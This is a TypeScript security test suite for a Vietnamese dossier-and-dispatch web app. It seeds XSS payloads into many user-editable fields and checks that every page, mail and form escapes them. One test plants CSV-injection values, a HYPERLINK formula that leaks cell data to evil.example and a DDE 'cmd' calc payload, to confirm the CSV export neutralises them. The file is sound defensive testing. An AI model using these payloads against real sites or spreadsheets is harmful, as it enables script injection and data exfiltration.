import { workingDayAfter } from '../helpers/time';
/**
 * Stored and reflected XSS: markup in every text a user can set (unit and person names, procedure,
 * step and document names, applicant data, every event's comment, dispatch texts, replies, calendar
 * names) must never come back unescaped on any page that shows it, nor in the HTML of a mail.
 */
import request from 'supertest';
import { ENGINES } from '../helpers/db';
import { buildTestApp, csrfFrom, signIn, TestApp } from '../helpers/app';
import { PASSWORD } from '../factories/accounts';
import { bearer, definition } from '../factories/dossiers';
import { OutboxWorker } from '../../server/jobs/outbox.job';
import type { Mail } from '../../server/mail/mailer';
import { buildSecWorld, driver, Principal, SecWorld } from './fixture';

const S = '<script>alert(1)</script>';
const I = '"><img src=x onerror=alert(1)>';
const X = `${S}${I}`;
/** What must never appear in a response: the payloads as live markup. */
const RAW = ['<script>alert(1)', '<img src=x onerror'];
const unescaped = (text: string) => RAW.filter((m) => text.includes(m));

describe.each(ENGINES)('XSS on %s', (engine) => {
  let t: TestApp;
  let w: SecWorld;
  const codes: string[] = [];
  let dispatchId = 0;
  const by = (role: Principal['role'], rel: Principal['rel']) => w.by(role, rel);

  beforeAll(async () => {
    t = await buildTestApp(engine);
    w = await buildSecWorld(
      t.app,
      t.tdb.db,
      { P: `Tỉnh ${S}`, D: `Huyện ${I}`, A: `Xã ${X}`, B: `Xã ${S}`, C: `Xã ${I}` },
      (k) => `${k} ${X}`,
    );
    const api = (p: Principal) => ({
      post: async (path: string, body: object, method: 'post' | 'put' = 'post') => {
        const res = await request(t.app)[method](`/api/v1${path}`).set(bearer(p.token)).send(body);
        if (res.status >= 300) throw new Error(`${path}: ${res.status} ${JSON.stringify(res.body)}`);
        return res.body;
      },
    });
    const admin = by('admin', 'none');
    await api(admin).post(
      '/procedures',
      definition('XSS.1', {
        name: `Thủ tục ${X}`,
        field: `Lĩnh vực ${X}`,
        documents: [
          { code: 'TO_TRINH', name: `Tờ trình ${S}`, required: true },
          { code: 'BAO_CAO', name: `Báo cáo ${I}`, required: true },
        ],
        steps: [
          { code: 'review', name: `Thẩm định ${S}`, role: 'specialist', hours: 16 },
          { code: 'check', name: `Xem xét ${I}`, role: 'head', hours: 8 },
          { code: 'sign', name: `Ký ${X}`, role: 'leader', hours: 8 },
          { code: 'number', name: `Vào số ${X}`, role: 'clerk', hours: 4 },
        ],
      }),
    );
    await api(admin).post('/calendar/days/2031-03-03', { kind: 'holiday', name: `Nghỉ ${X}` }, 'put');
    const applicant = { fullName: `${S} Nguyễn ${I}`, address: `Thôn ${X}`, email: `${S}@x.vn` };
    const intake = (over: object = {}) =>
      api(by('intake', 'own')).post('/dossiers', {
        procedureCode: 'XSS.1',
        applicant,
        documents: ['TO_TRINH', 'BAO_CAO'],
        note: `Ghi chú ${X}`,
        ...over,
      });
    const ev = (role: Principal['role'], code: string, body: object, rel: Principal['rel'] = 'own') =>
      api(by(role, rel)).post(`/dossiers/${code}/events`, { comment: `Ghi ${X}`, ...body });
    // 1: supplement, extend, return, then refused
    let d = await intake();
    codes.push(d.code);
    await ev('specialist', d.code, { type: 'REQUEST_SUPPLEMENT', version: 1, comment: `Bổ sung ${X}` });
    await ev('intake', d.code, { type: 'SUPPLEMENT_RECEIVED', version: 2, comment: `Đã nhận ${X}` });
    await ev('leader', d.code, {
      type: 'EXTEND',
      version: 3,
      comment: `Xin lỗi ${X}`,
      dueAt: workingDayAfter(Date.now(), 90),
    });
    await ev('specialist', d.code, { type: 'FORWARD', version: 4, comment: `Chuyển ${X}` });
    await ev('head', d.code, { type: 'RETURN', version: 5, comment: `Trả lại ${X}` });
    await ev('specialist', d.code, { type: 'REFUSE', version: 6, comment: `Từ chối ${X}` });
    // 2: withdrawn; 3: all the way to returned
    d = await intake({ applicant: { ...applicant, email: 'dan@example.vn' } });
    codes.push(d.code);
    await ev('intake', d.code, { type: 'WITHDRAW', version: 1, comment: `Rút ${X}` });
    d = await intake();
    codes.push(d.code);
    let v = 1;
    for (const role of ['specialist', 'head', 'leader', 'clerk'] as const)
      await ev(role, d.code, { type: 'FORWARD', version: v++, comment: `Xong ${X}` });
    await ev('intake', d.code, { type: 'RETURN_RESULT', version: v, comment: `Đã trả ${X}` });
    // a dispatch with its reply, a returned draft and the drafter's response
    const dr = driver(t.app, w);
    const reply = await dr.reply('pending_approval', { title: `Công văn ${X}`, summary: `Nội dung ${X}` });
    dispatchId = reply.id;
    const rpath = `/dispatches/${reply.id}/replies/${w.units.A.code}/events`;
    await api(by('head', 'own')).post(rpath, { type: 'RETURN', version: 3, comment: `Trả lại ${X}` });
    await api(by('specialist', 'own')).post(rpath, {
      type: 'SUBMIT',
      version: 4,
      position: 'disagree',
      content: `Ý kiến ${X}`,
    });
    await api(by('leader', 'own')).post(rpath, { type: 'APPROVE', version: 5 });
    await api(by('specialist', 'parent')).post(
      `/dispatches/${reply.id}/replies/${w.units.A.code}/response`,
      { response: `Tiếp thu ${X}` },
      'put',
    );
    // An absence delegation from A's leader to A's head, its free text hostile (issue 16).
    const idOf = async (p: Principal) =>
      Number((await t.tdb.db('users').where({ username: p.username }).first('id')).id);
    const leaderId = await idOf(by('leader', 'own'));
    await t.tdb.db('delegations').insert({
      leader_id: leaderId,
      deputy_id: await idOf(by('head', 'own')),
      unit_id: w.units.A.id,
      role: 'leader',
      kind: 'TUQ',
      from_date: '2026-01-01',
      to_date: '2099-12-31',
      deputy_title: `Chánh Văn phòng ${X}`,
      reason: `Công tác ${S}`,
      created_by: leaderId,
      created_at: Date.now(),
    });
    const draft = await dr.dispatch('pending_approval', { title: `Dự thảo ${X}` });
    await api(by('leader', 'parent')).post(`/dispatches/${draft.id}/events`, {
      type: 'REJECT',
      version: 2,
      comment: `Sửa ${X}`,
    });
  });
  afterAll(() => t.close());

  const pagesFor = (p: Principal) => {
    const year = new Date().getFullYear();
    const staff = [
      '/',
      '/ho-so?loc=tat-ca',
      '/ho-so?loc=cua-toi',
      '/ho-so?loc=qua-han',
      `/ho-so?loc=tat-ca&tim=${encodeURIComponent(S)}`,
      // print views (slow to render: QR codes) for the desk and the admin only
      ...codes.flatMap((c) => [
        `/ho-so/${c}`,
        `/ho-so/${c}?in=02`,
        ...(['intake', 'admin'].includes(p.role)
          ? ['01', '02', '03', '04', '06'].map((f) => `/ho-so/${c}/in/${f}`)
          : []),
      ]),
      `/so-theo-doi?don-vi=${w.units.A.code}&tu=${year}-01-01&den=${year}-12-31`,
      '/bao-cao',
      `/bao-cao?tu=${year}-01-01&den=${year}-12-31`,
      `/bao-cao/ho-so?tu=${year}-01-01&den=${year}-12-31`,
      '/cong-van',
      '/cong-van?hop-thu=1',
      `/cong-van/${dispatchId}`,
      `/cong-van/${dispatchId}/tong-hop`,
    ];
    const admin = [
      '/quan-tri/don-vi',
      `/quan-tri/don-vi/${w.units.A.code}`,
      '/quan-tri/nguoi-dung',
      `/quan-tri/nguoi-dung/${by('specialist', 'own').username}`,
      `/quan-tri/nguoi-dung/${by('specialist', 'own').username}/khoa`,
      `/quan-tri/nguoi-dung?tim=${encodeURIComponent(X)}&trang-thai=hoat-dong`,
      '/quan-tri/thu-tuc',
      '/quan-tri/thu-tuc/XSS.1',
      '/quan-tri/thu-tuc/XSS.1/sua',
      '/quan-tri/thu-tuc/XSS.1/bieu-mau',
      '/quan-tri/thu',
      '/quan-tri/lich?nam=2031',
      '/quan-tri/uy-quyen',
    ];
    return [
      ...staff,
      ...(p.role === 'admin' ? admin : []),
      ...(p.role === 'intake' ? ['/ho-so/moi?thu-tuc=XSS.1', '/ho-so/moi?tim=Th%E1%BB%A7'] : []),
      ...(p.role === 'leader' ? ['/uy-quyen'] : []),
    ];
  };

  it('no page shows a stored payload unescaped, for any of the people who see them', async () => {
    const problems: string[] = [];
    let escapedSeen = 0;
    let fetched = 0;
    for (const p of [
      by('admin', 'none'),
      by('intake', 'own'),
      by('specialist', 'own'),
      by('leader', 'own'),
      by('head', 'parent'),
      by('leader', 'province'),
      by('specialist', 'parent'),
    ]) {
      const agent = await signIn(t.app, p.username, PASSWORD);
      for (const url of pagesFor(p)) {
        const res = await agent.get(url);
        fetched++;
        if (res.status >= 500) problems.push(`${url} × ${p.key} → ${res.status}`);
        const bad = unescaped(res.text ?? '');
        if (bad.length) problems.push(`${url} × ${p.key} (${res.status}): unescaped ${bad.join(', ')}`);
        if ((res.text ?? '').includes('&lt;script&gt;alert(1)')) escapedSeen++;
      }
    }
    expect(problems).toEqual([]);
    expect(escapedSeen).toBeGreaterThan(10); // the payloads were really shown, escaped
    expect(fetched).toBeGreaterThan(80);
  });

  it('the dossier page shows each payload escaped (names, applicant, every comment)', async () => {
    const agent = await signIn(t.app, by('intake', 'own').username, PASSWORD);
    const page = await agent.get(`/ho-so/${codes[0]}`);
    expect(page.status).toBe(200);
    expect(unescaped(page.text)).toEqual([]);
    for (const label of ['Bổ sung', 'Xin lỗi', 'Trả lại', 'Từ chối', 'Thôn'])
      expect(page.text).toContain(`${label} &lt;script&gt;alert(1)&lt;/script&gt;`);
  });

  it('the public lookup page and the API never return live markup in HTML', async () => {
    for (const c of codes) {
      const res = await request(t.app).get(`/tra-cuu?ma=${encodeURIComponent(c)}`);
      expect(res.status).toBe(200);
      expect(unescaped(res.text)).toEqual([]);
    }
    const reflected = await request(t.app).get(`/tra-cuu?ma=${encodeURIComponent(X)}`);
    expect(unescaped(reflected.text)).toEqual([]);
    const api = await request(t.app)
      .get(`/api/v1/dossiers/${codes[0]}`)
      .set(bearer(by('intake', 'own').token));
    expect(api.type).toMatch(/json/); // markup inside JSON is data, as long as it is never served as HTML
  });

  it('reflected input (next=, search, unknown codes, error pages) comes back escaped', async () => {
    const agent = await signIn(t.app, by('admin', 'none').username, PASSWORD);
    const urls = [
      `/ho-so?loc=tat-ca&tim=${encodeURIComponent(X)}`,
      `/ho-so/${encodeURIComponent(X)}`,
      `/quan-tri/thu-tuc/${encodeURIComponent(X)}`,
      `/quan-tri/don-vi/${encodeURIComponent(X)}`,
      `/quan-tri/nguoi-dung/${encodeURIComponent(X)}`,
      `/cong-van/${encodeURIComponent(X)}`,
      `/quan-tri/lich?nam=${encodeURIComponent(X)}`,
      `/bao-cao?tu=${encodeURIComponent(X)}&den=${encodeURIComponent(I)}`,
      `/bao-cao/ho-so?chi-so=${encodeURIComponent(X)}&thu-tuc=${encodeURIComponent(X)}`,
      `/ho-so/moi?tim=${encodeURIComponent(X)}&thu-tuc=${encodeURIComponent(X)}`,
      `/khong-co/${encodeURIComponent(X)}`,
    ];
    const problems: string[] = [];
    for (const url of urls) {
      const res = await agent.get(url);
      if (res.status >= 500 || unescaped(res.text ?? '').length)
        problems.push(`${url} → ${res.status} ${unescaped(res.text ?? '').join(', ')}`);
    }
    const login = await request(t.app).get(`/dang-nhap?next=${encodeURIComponent(`/${I}`)}`);
    if (unescaped(login.text).length) problems.push('/dang-nhap?next= reflected unescaped');
    expect(problems).toEqual([]);
  });

  it('a unit created through the admin form with markup in its name is escaped in the flash and the list', async () => {
    const agent = await signIn(t.app, by('admin', 'none').username, PASSWORD);
    const page = await agent.get('/quan-tri/don-vi');
    const res = await agent
      .post('/quan-tri/don-vi')
      .type('form')
      .send({ _csrf: csrfFrom(page.text), code: 'XSS.FORM', name: `Đơn vị ${X}`, level: 'province' });
    expect(res.status).toBe(303);
    const list = await agent.get('/quan-tri/don-vi');
    expect(list.text).toContain('Đã thêm đơn vị Đơn vị &lt;script&gt;');
    expect(unescaped(list.text)).toEqual([]);
    const bad = await agent
      .post('/quan-tri/don-vi')
      .type('form')
      .send({ _csrf: csrfFrom(list.text), code: `<b>${S}`, name: `Lỗi ${X}`, level: 'district' });
    expect(bad.status).toBe(422); // the re-rendered form keeps the input, escaped
    expect(unescaped(bad.text)).toEqual([]);
  });

  it('mails built from these texts carry no live markup in their HTML', async () => {
    const sent: Mail[] = [];
    const worker = new OutboxWorker(
      t.tdb.db,
      { send: async (m) => void sent.push(m), close: () => undefined },
      { owner: 'xss', publicUrl: 'http://mc.test', baseDelayMs: 1 },
    );
    for (let i = 0; i < 6; i++) await worker.tick();
    expect(sent.length).toBeGreaterThan(5);
    const bad = sent
      .filter((m) => unescaped(m.html).length)
      .map((m) => `${m.subject} → ${unescaped(m.html).join(', ')}`);
    expect(bad).toEqual([]);
  });

  it('CSV export of the synthesis neutralises spreadsheet formulas typed by another unit (CSV injection)', async () => {
    const d = await driver(t.app, w).reply('assigned');
    const path = `/api/v1/dispatches/${d.id}/replies/${w.units.A.code}/events`;
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")';
    for (const [p, body] of [
      [by('specialist', 'own'), { type: 'SUBMIT', version: 2, position: 'comments', content: formula }],
      [by('leader', 'own'), { type: 'APPROVE', version: 3 }],
    ] as const)
      expect((await request(t.app).post(path).set(bearer(p.token)).send(body)).status).toBe(200);
    await request(t.app)
      .put(`/api/v1/dispatches/${d.id}/replies/${w.units.A.code}/response`)
      .set(bearer(by('specialist', 'parent').token))
      .send({ response: '+1+cmd|" /C calc"!A0' });
    const agent = await signIn(t.app, by('specialist', 'parent').username, PASSWORD);
    const csv = await agent.get(`/cong-van/${d.id}/tong-hop.csv`);
    expect(csv.status).toBe(200);
    // RFC 4180 fields; a cell a spreadsheet would evaluate starts with = + - @ (or a tab / CR before them)
    const cells = [...csv.text.replace(/^\uFEFF/, '').matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/gm)].map((m) =>
      (m[1] ?? m[2] ?? '').replace(/""/g, '"'),
    );
    expect(cells.some((c) => c.includes('HYPERLINK'))).toBe(true);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });
});
